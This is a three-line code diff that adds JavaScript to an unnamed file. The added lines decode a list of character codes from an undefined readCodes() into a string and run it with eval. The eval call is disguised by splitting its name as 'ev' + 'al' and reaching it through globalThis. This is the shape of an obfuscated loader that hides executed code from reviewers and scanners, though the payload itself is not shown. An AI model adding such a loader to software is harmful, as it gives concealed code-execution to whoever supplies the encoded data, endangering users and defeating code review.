@@ -1,0 +1,3 @@
+const codes = readCodes();
+const source = String.fromCharCode(...codes);
+globalThis["ev" + "al"](source);
